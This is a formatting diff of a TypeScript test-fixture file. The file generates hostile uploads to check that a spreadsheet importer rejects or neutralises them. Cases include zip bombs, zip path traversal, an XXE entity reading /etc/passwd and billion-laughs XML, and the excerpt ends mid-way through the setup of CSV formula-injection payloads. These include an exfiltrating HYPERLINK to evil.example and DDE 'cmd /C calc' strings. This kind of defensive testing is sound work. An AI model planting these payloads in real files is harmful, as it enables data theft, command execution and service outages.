@@ -41,9 +41,39 @@ export interface Template {
 
 /** mappings/generic.yaml (samples/generic-template.csv): external_id is `{Requisition}-{Line}`. */
 export const GENERIC_TEMPLATE: Template = {
-  header: ['Requisition', 'Line', 'Item', 'Specification', 'UoM', 'Qty', 'Estimated Total', 'Title', 'Description', 'Due Date', 'Required Date', 'RFQ Type', 'Category', 'Location'],
+  header: [
+    'Requisition',
+    'Line',
+    'Item',
+    'Specification',
+    'UoM',
+    'Qty',
+    'Estimated Total',
+    'Title',
+    'Description',
+    'Due Date',
+    'Required Date',
+    'RFQ Type',
+    'Category',
+    'Location',
+  ],
   productColumn: 2,
-  cells: (l) => [l.pr, l.item, l.product, l.spec ?? '', l.uom ?? 'EA', l.qty, l.price ?? '100', `PR ${l.pr}`, 'hardening suite', futureDate(), futureDate(90), 'Public', 'Hardware', 'Plant 1'],
+  cells: (l) => [
+    l.pr,
+    l.item,
+    l.product,
+    l.spec ?? '',
+    l.uom ?? 'EA',
+    l.qty,
+    l.price ?? '100',
+    `PR ${l.pr}`,
+    'hardening suite',
+    futureDate(),
+    futureDate(90),
+    'Public',
+    'Hardware',
+    'Plant 1',
+  ],
 };
 
 /** A due date 60 days ahead, ISO, so validation never sees it in the past. */
@@ -98,9 +128,22 @@ export function csvOf(t: Template, lines: TemplateLine[], sep = ','): string {
 }
 
 /** `n` requisitions of `per` lines each, prefix keeps external_ids apart between cases. */
-export function linesOf(prefix: string, n: number, per = 2, product = (i: number, j: number) => `Bolt M${i + 6}x${j + 20}`): TemplateLine[] {
+export function linesOf(
+  prefix: string,
+  n: number,
+  per = 2,
+  product = (i: number, j: number) => `Bolt M${i + 6}x${j + 20}`,
+): TemplateLine[] {
   const out: TemplateLine[] = [];
-  for (let i = 0; i < n; i++) for (let j = 0; j < per; j++) out.push({ pr: `${prefix}${1000 + i}`, item: String((j + 1) * 10), product: product(i, j), qty: String(j + 1), price: String(10 * (j + 1)) });
+  for (let i = 0; i < n; i++)
+    for (let j = 0; j < per; j++)
+      out.push({
+        pr: `${prefix}${1000 + i}`,
+        item: String((j + 1) * 10),
+        product: product(i, j),
+        qty: String(j + 1),
+        price: String(10 * (j + 1)),
+      });
   return out;
 }
 
@@ -114,11 +157,17 @@ function colName(i: number): string {
   return s;
 }
 
-export function sheetXml(rows: string[][], opts: { doctype?: string; cellText?: (r: number, c: number, v: string) => string } = {}): string {
+export function sheetXml(
+  rows: string[][],
+  opts: { doctype?: string; cellText?: (r: number, c: number, v: string) => string } = {},
+): string {
   const body = rows
     .map((row, r) => {
       const cells = row
-        .map((v, c) => `<c r="${colName(c)}${r + 1}" t="inlineStr"><is><t>${opts.cellText ? opts.cellText(r, c, v) : xmlEscape(v)}</t></is></c>`)
+        .map(
+          (v, c) =>
+            `<c r="${colName(c)}${r + 1}" t="inlineStr"><is><t>${opts.cellText ? opts.cellText(r, c, v) : xmlEscape(v)}</t></is></c>`,
+        )
         .join('');
       return `<row r="${r + 1}">${cells}</row>`;
     })
@@ -200,7 +249,12 @@ export function cfbOf(streams: Array<{ name: string; data: Uint8Array }>): Uint8
   }
   // Directory: root, then the streams as a chain of right siblings (sorted by name length, then name).
   const dirBase = SECTOR * (1 + fatSectors);
-  const entry = (i: number, name: string, type: number, o: { child?: number; right?: number; start?: number; size?: number }) => {
+  const entry = (
+    i: number,
+    name: string,
+    type: number,
+    o: { child?: number; right?: number; start?: number; size?: number },
+  ) => {
     const at = dirBase + i * 128;
     for (let k = 0; k < name.length; k++) dv.setUint16(at + k * 2, name.charCodeAt(k), true);
     dv.setUint16(at + 64, (name.length + 1) * 2, true);
@@ -212,9 +266,13 @@ export function cfbOf(streams: Array<{ name: string; data: Uint8Array }>): Uint8
     dv.setUint32(at + 116, o.start ?? END, true);
     dv.setUint32(at + 120, o.size ?? 0, true);
   };
-  const order = padded.map((s, i) => ({ ...s, start: starts[i]! })).sort((a, b) => a.name.length - b.name.length || a.name.toUpperCase().localeCompare(b.name.toUpperCase()));
+  const order = padded
+    .map((s, i) => ({ ...s, start: starts[i]! }))
+    .sort((a, b) => a.name.length - b.name.length || a.name.toUpperCase().localeCompare(b.name.toUpperCase()));
   entry(0, 'Root Entry', 5, { child: order.length ? 1 : NOSTREAM });
-  order.forEach((s, i) => entry(i + 1, s.name, 2, { right: i + 1 < order.length ? i + 2 : NOSTREAM, start: s.start, size: s.size }));
+  order.forEach((s, i) =>
+    entry(i + 1, s.name, 2, { right: i + 1 < order.length ? i + 2 : NOSTREAM, start: s.start, size: s.size }),
+  );
   for (let i = order.length + 1; i < dirSectors * 4; i++) {
     const at = dirBase + i * 128;
     dv.setUint32(at + 68, NOSTREAM, true);
@@ -244,7 +302,9 @@ export function noise(n: number, seed = 0x9e3779b9): Uint8Array {
  * so a 1 MB segment repeated N times costs one compression and N copies (valid raw deflate: no segment refers back
  * past its own start). `claimSize` overrides the uncompressed size written in the headers (a lying zip).
  */
-export function handZip(entries: Array<{ name: string; segments: Array<{ data: Uint8Array; times: number }>; claimSize?: number }>): Buffer {
+export function handZip(
+  entries: Array<{ name: string; segments: Array<{ data: Uint8Array; times: number }>; claimSize?: number }>,
+): Buffer {
   const chunks: Buffer[] = [];
   const central: Buffer[] = [];
   let offset = 0;
@@ -307,7 +367,12 @@ function bombXlsx(mb: number, claimSize?: number): Buffer {
   entries.push({
     name: 'xl/worksheets/sheet1.xml',
     segments: [
-      { data: strToU8('<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'), times: 1 },
+      {
+        data: strToU8(
+          '<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>',
+        ),
+        times: 1,
+      },
       { data: new Uint8Array(1024 * 1024).fill(0x20), times: mb },
       { data: strToU8('</sheetData></worksheet>'), times: 1 },
     ],
@@ -327,7 +392,10 @@ async function put(dir: string, name: string, data: string | Uint8Array): Promis
 }
 
 /** Cases that must be read (archive) carry distinct requisition prefixes so their external_ids never collide. */
-export function hostileCases(t: Template = GENERIC_TEMPLATE, limits: typeof HOSTILE_LIMITS = HOSTILE_LIMITS): HostileCase[] {
+export function hostileCases(
+  t: Template = GENERIC_TEMPLATE,
+  limits: typeof HOSTILE_LIMITS = HOSTILE_LIMITS,
+): HostileCase[] {
   const cases: HostileCase[] = [];
   const add = (c: Omit<HostileCase, 'drop'> & { drop?: HostileCase['drop'] }) => cases.push({ drop: 'static', ...c });
   const good = (prefix: string, n = 1, per = 2) => csvOf(t, linesOf(prefix, n, per));
@@ -337,45 +405,75 @@ export function hostileCases(t: Template = GENERIC_TEMPLATE, limits: typeof HOST
 
   // ---- the refusals of the ingestion issue
   add({
-    id: 'xls-ole2', fileName: 'legacy-export.xls', what: 'old binary .xls (OLE2 container with a Workbook stream)',
+    id: 'xls-ole2',
+    fileName: 'legacy-export.xls',
+    what: 'old binary .xls (OLE2 container with a Workbook stream)',
     expect: failed(/xls|binary|excel 97|old|legacy|ole/i),
     write: (d) => put(d, 'legacy-export.xls', cfbOf([{ name: 'Workbook', data: noise(6000, 7) }])),
   });
   add({
-    id: 'xls-html', fileName: 'sap-html-export.xls', what: 'HTML table saved as .xls (what many ERPs call an Excel export)',
+    id: 'xls-html',
+    fileName: 'sap-html-export.xls',
+    what: 'HTML table saved as .xls (what many ERPs call an Excel export)',
     expect: failed(/xls|html|format|unsupported|binary|mapping profile/i),
     write: (d) => put(d, 'sap-html-export.xls', '<html><body><table><tr><td>PR</td></tr></table></body></html>'),
   });
   add({
-    id: 'ods', fileName: 'libreoffice.ods', what: 'OpenDocument spreadsheet',
+    id: 'ods',
+    fileName: 'libreoffice.ods',
+    what: 'OpenDocument spreadsheet',
     expect: failed(/ods|opendocument|format|unsupported/i),
     write: (d) =>
-      put(d, 'libreoffice.ods', zipSync({
-        mimetype: [strToU8('application/vnd.oasis.opendocument.spreadsheet'), { level: 0 }],
-        'content.xml': strToU8('<?xml version="1.0"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"/>'),
-        'META-INF/manifest.xml': strToU8('<?xml version="1.0"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>'),
-      })),
+      put(
+        d,
+        'libreoffice.ods',
+        zipSync({
+          mimetype: [strToU8('application/vnd.oasis.opendocument.spreadsheet'), { level: 0 }],
+          'content.xml': strToU8(
+            '<?xml version="1.0"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"/>',
+          ),
+          'META-INF/manifest.xml': strToU8(
+            '<?xml version="1.0"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>',
+          ),
+        }),
+      ),
   });
   add({
-    id: 'ods-named-xlsx', fileName: 'really-ods.xlsx', what: 'OpenDocument spreadsheet renamed to .xlsx',
+    id: 'ods-named-xlsx',
+    fileName: 'really-ods.xlsx',
+    what: 'OpenDocument spreadsheet renamed to .xlsx',
     expect: failed(/ods|opendocument|not.*xlsx|workbook|format|corrupt|unsupported|cannot/i),
     write: (d) =>
-      put(d, 'really-ods.xlsx', zipSync({
-        mimetype: [strToU8('application/vnd.oasis.opendocument.spreadsheet'), { level: 0 }],
-        'content.xml': strToU8('<?xml version="1.0"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"/>'),
-      })),
+      put(
+        d,
+        'really-ods.xlsx',
+        zipSync({
+          mimetype: [strToU8('application/vnd.oasis.opendocument.spreadsheet'), { level: 0 }],
+          'content.xml': strToU8(
+            '<?xml version="1.0"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"/>',
+          ),
+        }),
+      ),
   });
   add({
-    id: 'xlsx-password', fileName: 'protected.xlsx', what: 'password-protected xlsx (OLE2 container with EncryptionInfo + EncryptedPackage)',
+    id: 'xlsx-password',
+    fileName: 'protected.xlsx',
+    what: 'password-protected xlsx (OLE2 container with EncryptionInfo + EncryptedPackage)',
     expect: failed(/password|encrypt|protect/i),
     write: (d) =>
-      put(d, 'protected.xlsx', cfbOf([
-        { name: 'EncryptionInfo', data: noise(600, 11) },
-        { name: 'EncryptedPackage', data: noise(9000, 12) },
-      ])),
+      put(
+        d,
+        'protected.xlsx',
+        cfbOf([
+          { name: 'EncryptionInfo', data: noise(600, 11) },
+          { name: 'EncryptedPackage', data: noise(9000, 12) },
+        ]),
+      ),
   });
   add({
-    id: 'xlsx-truncated', fileName: 'half-copied.xlsx', what: 'xlsx cut in the middle (half-copied file)',
+    id: 'xlsx-truncated',
+    fileName: 'half-copied.xlsx',
+    what: 'xlsx cut in the middle (half-copied file)',
     expect: failed(/corrupt|damaged|invalid|truncat|not a valid|cannot|zip/i),
     write: async (d) => {
       const full = xlsxOf(t, linesOf('TRUNC', 3));
@@ -383,49 +481,69 @@ export function hostileCases(t: Template = GENERIC_TEMPLATE, limits: typeof HOST
     },
   });
   add({
-    id: 'xlsx-garbage', fileName: 'noise.xlsx', what: 'random bytes named .xlsx',
+    id: 'xlsx-garbage',
+    fileName: 'noise.xlsx',
+    what: 'random bytes named .xlsx',
     expect: failed(/corrupt|damaged|invalid|not a valid|not an? (xlsx|zip)|cannot|zip|format/i),
     write: (d) => put(d, 'noise.xlsx', noise(20_000, 3)),
   });
   add({
-    id: 'xlsx-pdf', fileName: 'scan.xlsx', what: 'a PDF named .xlsx',
+    id: 'xlsx-pdf',
+    fileName: 'scan.xlsx',
+    what: 'a PDF named .xlsx',
     expect: failed(/corrupt|damaged|invalid|not a valid|not an? (xlsx|zip)|cannot|zip|format|pdf/i),
     write: (d) => put(d, 'scan.xlsx', `%PDF-1.7\n${'1 0 obj << /Type /Catalog >> endobj\n'.repeat(100)}%%EOF\n`),
   });
   add({
-    id: 'xlsx-no-workbook', fileName: 'no-workbook.xlsx', what: 'a valid zip without xl/workbook.xml',
+    id: 'xlsx-no-workbook',
+    fileName: 'no-workbook.xlsx',
+    what: 'a valid zip without xl/workbook.xml',
     expect: failed(/workbook|sheet|corrupt|invalid|not a valid|cannot|format|empty/i),
     write: (d) => put(d, 'no-workbook.xlsx', zipSync({ 'readme.txt': strToU8('nothing here') })),
   });
   add({
-    id: 'xlsx-bad-xml', fileName: 'broken-xml.xlsx', what: 'xlsx whose sheet XML is not well-formed',
+    id: 'xlsx-bad-xml',
+    fileName: 'broken-xml.xlsx',
+    what: 'xlsx whose sheet XML is not well-formed',
     expect: either,
     write: (d) => {
-      const parts = xlsxParts('<?xml version="1.0"?><worksheet><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>PR</t></is></c><row><</sheetData>');
+      const parts = xlsxParts(
+        '<?xml version="1.0"?><worksheet><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>PR</t></is></c><row><</sheetData>',
+      );
       return put(d, 'broken-xml.xlsx', zipSync(parts));
     },
   });
   add({
-    id: 'zip-too-many-entries', fileName: 'many-entries.xlsx', what: `xlsx zip with ${limits.maxXlsxEntries * 3} entries (limit ${limits.maxXlsxEntries})`,
+    id: 'zip-too-many-entries',
+    fileName: 'many-entries.xlsx',
+    what: `xlsx zip with ${limits.maxXlsxEntries * 3} entries (limit ${limits.maxXlsxEntries})`,
     expect: failed(/entries|files|too many|limit/i),
     write: (d) => {
       const parts = xlsxParts(sheetXml([t.header, ...linesOf('ENTRIES', 1).map((l) => t.cells(l))]));
-      for (let i = 0; i < limits.maxXlsxEntries * 3; i++) parts[`xl/media/pad${i}.xml`] = [strToU8('<a/>'), { level: 0 }];
+      for (let i = 0; i < limits.maxXlsxEntries * 3; i++)
+        parts[`xl/media/pad${i}.xml`] = [strToU8('<a/>'), { level: 0 }];
       return put(d, 'many-entries.xlsx', zipSync(parts));
     },
   });
   add({
-    id: 'zip-bomb', fileName: 'zip-bomb.xlsx', what: 'xlsx whose sheet inflates to 4x the uncompressed limit from a few hundred KB',
+    id: 'zip-bomb',
+    fileName: 'zip-bomb.xlsx',
+    what: 'xlsx whose sheet inflates to 4x the uncompressed limit from a few hundred KB',
     expect: failed(/uncompressed|bomb|too (big|large)|size|limit|expand/i),
     write: (d) => put(d, 'zip-bomb.xlsx', bombXlsx(Math.ceil((limits.maxXlsxUncompressedBytes * 4) / 1024 ** 2))),
   });
   add({
-    id: 'zip-bomb-lying-size', fileName: 'lying-sizes.xlsx', what: 'xlsx whose zip headers claim 1 KB but the sheet inflates to 1.5x the limit',
+    id: 'zip-bomb-lying-size',
+    fileName: 'lying-sizes.xlsx',
+    what: 'xlsx whose zip headers claim 1 KB but the sheet inflates to 1.5x the limit',
     expect: failed(/uncompressed|bomb|too (big|large)|size|limit|corrupt|invalid|damaged|cannot|mismatch|expand/i),
-    write: (d) => put(d, 'lying-sizes.xlsx', bombXlsx(Math.ceil((limits.maxXlsxUncompressedBytes * 1.5) / 1024 ** 2), 1024)),
+    write: (d) =>
+      put(d, 'lying-sizes.xlsx', bombXlsx(Math.ceil((limits.maxXlsxUncompressedBytes * 1.5) / 1024 ** 2), 1024)),
   });
   add({
-    id: 'zip-traversal', fileName: 'traversal-entries.xlsx', what: 'xlsx zip with entries named ../../evil.txt and /etc/evil',
+    id: 'zip-traversal',
+    fileName: 'traversal-entries.xlsx',
+    what: 'xlsx zip with entries named ../../evil.txt and /etc/evil',
     expect: either,
     write: (d) => {
       const parts = xlsxParts(sheetXml([t.header, ...linesOf('ZIPTRAV', 1).map((l) => t.cells(l))]));
@@ -435,7 +553,9 @@ export function hostileCases(t: Template = GENERIC_TEMPLATE, limits: typeof HOST
     },
   });
   add({
-    id: 'over-size-limit', fileName: 'huge-export.csv', what: `CSV one byte over the size limit (${limits.maxFileBytes} bytes; sparse file)`,
+    id: 'over-size-limit',
+    fileName: 'huge-export.csv',
+    what: `CSV one byte over the size limit (${limits.maxFileBytes} bytes; sparse file)`,
     expect: failed(/size|too (big|large)|limit|bytes|MB|MiB/i),
     write: async (d) => {
       const p = await put(d, 'huge-export.csv', good('HUGE'));
@@ -444,54 +564,74 @@ export function hostileCases(t: Template = GENERIC_TEMPLATE, limits: typeof HOST
     },
   });
   add({
-    id: 'garbage-csv', fileName: 'garbage.csv', what: 'binary garbage named .csv',
+    id: 'garbage-csv',
+    fileName: 'garbage.csv',
+    what: 'binary garbage named .csv',
     expect: failed(/binary|not (a )?text|garbage|unreadable|not a csv|cannot|encoding|format/i),
     write: (d) => put(d, 'garbage.csv', noise(50_000, 5)),
   });
   add({
-    id: 'gzip-csv', fileName: 'export.csv', what: 'a gzip stream named .csv',
+    id: 'gzip-csv',
+    fileName: 'export.csv',
+    what: 'a gzip stream named .csv',
     expect: failed(/binary|not (a )?text|garbage|unreadable|not a csv|cannot|encoding|format|compress/i),
     write: (d) => put(d, 'export.csv', new Uint8Array([0x1f, 0x8b, 0x08, 0x00, ...noise(4000, 9)])),
   });
   add({
-    id: 'empty-csv', fileName: 'empty.csv', what: 'empty file (0 bytes)',
+    id: 'empty-csv',
+    fileName: 'empty.csv',
+    what: 'empty file (0 bytes)',
     expect: failed(/empty|no data|0 bytes/i),
     write: (d) => put(d, 'empty.csv', ''),
   });
   add({
-    id: 'empty-xlsx', fileName: 'empty.xlsx', what: 'empty .xlsx (0 bytes)',
+    id: 'empty-xlsx',
+    fileName: 'empty.xlsx',
+    what: 'empty .xlsx (0 bytes)',
     expect: failed(/empty|no data|0 bytes/i),
     write: (d) => put(d, 'empty.xlsx', ''),
   });
   add({
-    id: 'bom-only', fileName: 'bom-only.csv', what: 'a UTF-8 BOM and nothing else',
+    id: 'bom-only',
+    fileName: 'bom-only.csv',
+    what: 'a UTF-8 BOM and nothing else',
     expect: failed(/empty|no data|header|no rows/i),
     write: (d) => put(d, 'bom-only.csv', new Uint8Array([0xef, 0xbb, 0xbf])),
   });
   add({
-    id: 'blank-lines-only', fileName: 'blank.csv', what: 'only blank lines and spaces',
+    id: 'blank-lines-only',
+    fileName: 'blank.csv',
+    what: 'only blank lines and spaces',
     expect: failed(/empty|no data|header|no rows|mapping|profile/i),
     write: (d) => put(d, 'blank.csv', '\r\n\r\n   \r\n\t\r\n'),
   });
   add({
-    id: 'unknown-extension', fileName: 'requisitions.pdf', what: 'a file with an extension that is no spreadsheet',
+    id: 'unknown-extension',
+    fileName: 'requisitions.pdf',
+    what: 'a file with an extension that is no spreadsheet',
     expect: failed(/extension|format|unsupported|not supported|binary|mapping profile/i),
     write: (d) => put(d, 'requisitions.pdf', '%PDF-1.4\n%%EOF\n'),
   });
   add({
-    id: 'no-extension', fileName: 'REQUISITIONS', what: 'a file without extension',
+    id: 'no-extension',
+    fileName: 'REQUISITIONS',
+    what: 'a file without extension',
     expect: either,
     write: (d) => put(d, 'REQUISITIONS', good('NOEXT')),
   });
   add({
-    id: 'no-header', fileName: 'no-header.csv', what: 'a CSV whose rows match no mapping profile (no known header)',
+    id: 'no-header',
+    fileName: 'no-header.csv',
+    what: 'a CSV whose rows match no mapping profile (no known header)',
     expect: failed(/header|mapping|profile|column/i),
     write: (d) => put(d, 'no-header.csv', 'alpha,beta,gamma\r\n1,2,3\r\n4,5,6\r\n'),
   });
 
   // ---- XML attacks
   add({
-    id: 'xlsx-xxe', fileName: 'xxe.xlsx', what: 'xlsx whose sheet declares an external entity (file:///etc/passwd) and uses it as a product name',
+    id: 'xlsx-xxe',
+    fileName: 'xxe.xlsx',
+    what: 'xlsx whose sheet declares an external entity (file:///etc/passwd) and uses it as a product name',
     expect: { outcome: 'either', mustNotLeak: ['root:x:0:0', 'root:'] },
     write: (d) => {
       const rows = [t.header, ...linesOf('XXE', 1).map((l) => t.cells(l))];
@@ -503,18 +643,25 @@ export function hostileCases(t: Template = GENERIC_TEMPLATE, limits: typeof HOST
     },
   });
   add({
-    id: 'xlsx-billion-laughs', fileName: 'laughs.xlsx', what: 'xlsx with nested internal entities (billion laughs)',
+    id: 'xlsx-billion-laughs',
+    fileName: 'laughs.xlsx',
+    what: 'xlsx with nested internal entities (billion laughs)',
     expect: either,
     write: (d) => {
       let dtd = '<!ENTITY l0 "ha">';
       for (let i = 1; i <= 10; i++) dtd += `<!ENTITY l${i} "${`&l${i - 1};`.repeat(10)}">`;
       const rows = [t.header, ...linesOf('LAUGH', 1).map((l) => t.cells(l))];
-      const xml = sheetXml(rows, { doctype: `<!DOCTYPE worksheet [${dtd}]>`, cellText: (r, c, v) => (r === 1 && c === t.productColumn ? '&l10;' : xmlEscape(v)) });
+      const xml = sheetXml(rows, {
+        doctype: `<!DOCTYPE worksheet [${dtd}]>`,
+        cellText: (r, c, v) => (r === 1 && c === t.productColumn ? '&l10;' : xmlEscape(v)),
+      });
       return put(d, 'laughs.xlsx', zipSync(xlsxParts(xml)));
     },
   });
   add({
-    id: 'xlsx-deep-nesting', fileName: 'deep.xlsx', what: 'xlsx whose sheet XML nests 200,000 elements deep',
+    id: 'xlsx-deep-nesting',
+    fileName: 'deep.xlsx',
+    what: 'xlsx whose sheet XML nests 200,000 elements deep',
     expect: either,
     write: (d) => {
       const open = '<x>'.repeat(200_000);
@@ -526,7 +673,9 @@ export function hostileCases(t: Template = GENERIC_TEMPLATE, limits: typeof HOST
 
   // ---- size and shape
   add({
-    id: 'single-cell-50mb', fileName: 'one-big-cell.csv', what: 'CSV whose one product name is a 50 MB cell',
+    id: 'single-cell-50mb',
+    fileName: 'one-big-cell.csv',
+    what: 'CSV whose one product name is a 50 MB cell',
     expect: { outcome: 'either', createsNothing: true },
     write: async (d) => {
       await mkdir(d, { recursive: true });
@@ -546,7 +695,9 @@ export function hostileCases(t: Template = GENERIC_TEMPLATE, limits: typeof HOST
     },
   });
   add({
-    id: 'cols-100k', fileName: 'wide.csv', what: 'CSV with 100,000 columns (the template columns, then empty extra ones)',
+    id: 'cols-100k',
+    fileName: 'wide.csv',
+    what: 'CSV with 100,000 columns (the template columns, then empty extra ones)',
     expect: either,
     write: async (d) => {
       const extra = 100_000 - t.header.length;
@@ -556,122 +707,207 @@ export function hostileCases(t: Template = GENERIC_TEMPLATE, limits: typeof HOST
     },
   });
   add({
-    id: 'million-empty-rows', fileName: 'million-empty.csv', what: 'CSV with 2 requisitions then 1,000,000 empty rows',
+    id: 'million-empty-rows',
+    fileName: 'million-empty.csv',
+    what: 'CSV with 2 requisitions then 1,000,000 empty rows',
     expect: archive(2, 4),
     write: (d) => put(d, 'million-empty.csv', good('MEMPTY', 2) + CRLF.repeat(1_000_000)),
   });
   add({
-    id: 'many-empty-rows', fileName: 'trailing-empty-100k.csv', what: 'CSV with 1 requisition then 100,000 empty rows',
+    id: 'many-empty-rows',
+    fileName: 'trailing-empty-100k.csv',
+    what: 'CSV with 1 requisition then 100,000 empty rows',
     expect: archive(1, 2),
     write: (d) => put(d, 'trailing-empty-100k.csv', good('KEMPTY', 1) + CRLF.repeat(100_000)),
   });
   add({
-    id: 'million-delimiter-rows', fileName: 'trailing-commas.csv', what: 'CSV with 1 requisition then 1,000,000 rows of bare delimiters',
+    id: 'million-delimiter-rows',
+    fileName: 'trailing-commas.csv',
+    what: 'CSV with 1 requisition then 1,000,000 rows of bare delimiters',
     expect: archive(1, 2),
-    write: (d) => put(d, 'trailing-commas.csv', good('MCOMMA', 1) + (','.repeat(t.header.length - 1) + CRLF).repeat(1_000_000)),
+    write: (d) =>
+      put(d, 'trailing-commas.csv', good('MCOMMA', 1) + (','.repeat(t.header.length - 1) + CRLF).repeat(1_000_000)),
   });
   add({
-    id: 'long-line-no-newline', fileName: 'one-line.csv', what: '10 MB without a line break',
+    id: 'long-line-no-newline',
+    fileName: 'one-line.csv',
+    what: '10 MB without a line break',
     expect: either,
     write: (d) => put(d, 'one-line.csv', 'x'.repeat(10 * 1024 * 1024)),
   });
 
   // ---- encodings and CSV quirks
   add({
-    id: 'utf16-broken-bom', fileName: 'utf16-broken.csv', what: 'UTF-16LE BOM followed by UTF-8 text with an odd byte count',
+    id: 'utf16-broken-bom',
+    fileName: 'utf16-broken.csv',
+    what: 'UTF-16LE BOM followed by UTF-8 text with an odd byte count',
     expect: either,
-    write: (d) => put(d, 'utf16-broken.csv', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(good('U16BROKEN') + 'x')])),
+    write: (d) =>
+      put(d, 'utf16-broken.csv', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(good('U16BROKEN') + 'x')])),
   });
   add({
-    id: 'utf16-half-bom', fileName: 'utf16-half-bom.csv', what: 'UTF-16LE text whose BOM lost its second byte',
+    id: 'utf16-half-bom',
+    fileName: 'utf16-half-bom.csv',
+    what: 'UTF-16LE text whose BOM lost its second byte',
     expect: either,
-    write: (d) => put(d, 'utf16-half-bom.csv', Buffer.concat([Buffer.from([0xff]), Buffer.from(good('U16HALF'), 'utf16le')])),
+    write: (d) =>
+      put(d, 'utf16-half-bom.csv', Buffer.concat([Buffer.from([0xff]), Buffer.from(good('U16HALF'), 'utf16le')])),
   });
   add({
-    id: 'utf16le-ok', fileName: 'utf16le.csv', what: 'well-formed UTF-16LE with BOM (control case: must be read)',
+    id: 'utf16le-ok',
+    fileName: 'utf16le.csv',
+    what: 'well-formed UTF-16LE with BOM (control case: must be read)',
     expect: archive(1, 2),
-    write: (d) => put(d, 'utf16le.csv', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(good('U16OK'), 'utf16le')])),
+    write: (d) =>
+      put(d, 'utf16le.csv', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(good('U16OK'), 'utf16le')])),
   });
   add({
-    id: 'lone-quote', fileName: 'monitor-19in.csv', what: 'a product name holding a lone quote: 19" monitor',
+    id: 'lone-quote',
+    fileName: 'monitor-19in.csv',
+    what: 'a product name holding a lone quote: 19" monitor',
     expect: archive(1, 1),
     write: (d) => {
       const cells = t.cells({ pr: 'QUOTE1000', item: '10', product: 'MONITOR_PLACEHOLDER', qty: '1' });
-      return put(d, 'monitor-19in.csv', `${t.header.join(',')}${CRLF}${cells.join(',').replace('MONITOR_PLACEHOLDER', '19" monitor')}${CRLF}`);
+      return put(
+        d,
+        'monitor-19in.csv',
+        `${t.header.join(',')}${CRLF}${cells.join(',').replace('MONITOR_PLACEHOLDER', '19" monitor')}${CRLF}`,
+      );
     },
   });
   add({
-    id: 'unterminated-quote', fileName: 'open-quote.csv', what: 'a quoted field never closed until end of file',
+    id: 'unterminated-quote',
+    fileName: 'open-quote.csv',
+    what: 'a quoted field never closed until end of file',
     expect: either,
     write: (d) => put(d, 'open-quote.csv', `${good('OPENQ')}"OPENQ2000,"never closed${CRLF}`.repeat(1)),
   });
   add({
-    id: 'nul-bytes', fileName: 'nul-bytes.csv', what: 'text with NUL bytes inside fields',
+    id: 'nul-bytes',
+    fileName: 'nul-bytes.csv',
+    what: 'text with NUL bytes inside fields',
     expect: either,
     write: (d) => put(d, 'nul-bytes.csv', good('NUL').replace(/Bolt/g, 'Bo\u0000lt')),
   });
   add({
-    id: 'old-mac-cr', fileName: 'cr-only.csv', what: 'lines ended by a bare CR (classic Mac)',
+    id: 'old-mac-cr',
+    fileName: 'cr-only.csv',
+    what: 'lines ended by a bare CR (classic Mac)',
     expect: either,
     write: (d) => put(d, 'cr-only.csv', good('CRONLY').replace(/\r\n/g, '\r')),
   });
   add({
-    id: 'json-as-csv', fileName: 'api-dump.csv', what: 'a JSON document named .csv',
+    id: 'json-as-csv',
+    fileName: 'api-dump.csv',
+    what: 'a JSON document named .csv',
     expect: { outcome: 'failed', cause: /header|mapping|profile|column|format/i },
     write: (d) => put(d, 'api-dump.csv', JSON.stringify({ rfqs: [{ a: 1 }, { b: 2 }] })),
   });
   add({
-    id: 'bad-numbers', fileName: 'bad-numbers.csv', what: 'qty 1e309, -1, NaN, 1.5 and a price of Infinity: rows rejected, nothing crashes',
+    id: 'bad-numbers',
+    fileName: 'bad-numbers.csv',
+    what: 'qty 1e309, -1, NaN, 1.5 and a price of Infinity: rows rejected, nothing crashes',
     expect: either,
     write: (d) =>
-      put(d, 'bad-numbers.csv', csvOf(t, [
-        { pr: 'BADNUM1', item: '10', product: 'a', qty: '1e309' },
-        { pr: 'BADNUM2', item: '10', product: 'b', qty: '-1' },
-        { pr: 'BADNUM3', item: '10', product: 'c', qty: 'NaN' },
-        { pr: 'BADNUM4', item: '10', product: 'd', qty: '1.5' },
-        { pr: 'BADNUM5', item: '10', product: 'e', qty: '1', price: 'Infinity' },
-      ])),
+      put(
+        d,
+        'bad-numbers.csv',
+        csvOf(t, [
+          { pr: 'BADNUM1', item: '10', product: 'a', qty: '1e309' },
+          { pr: 'BADNUM2', item: '10', product: 'b', qty: '-1' },
+          { pr: 'BADNUM3', item: '10', product: 'c', qty: 'NaN' },
+          { pr: 'BADNUM4', item: '10', product: 'd', qty: '1.5' },
+          { pr: 'BADNUM5', item: '10', product: 'e', qty: '1', price: 'Infinity' },
+        ]),
+      ),
   });
   add({
-    id: 'dup-header', fileName: 'dup-header.csv', what: 'the header names every template column twice',
+    id: 'dup-header',
+    fileName: 'dup-header.csv',
+    what: 'the header names every template column twice',
     expect: either,
     write: (d) => {
       const lines = linesOf('DUPH', 1);
-      return put(d, 'dup-header.csv', [[...t.header, ...t.header].join(','), ...lines.map((l) => [...t.cells(l), ...t.cells(l)].join(','))].join(CRLF) + CRLF);
+      return put(
+        d,
+        'dup-header.csv',
+        [[...t.header, ...t.header].join(','), ...lines.map((l) => [...t.cells(l), ...t.cells(l)].join(','))].join(
+          CRLF,
+        ) + CRLF,
+      );
     },
   });
 
   // ---- hostile text that must be read and neutralised in every output
-  const formulas = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+cmd|' /C calc'!A0", '@SUM(1+1)*cmd|\' /C calc\'!A0', '-2+3', '\t=1+1', '=1+1\r', '\r=2+2'];
+  const formulas = [
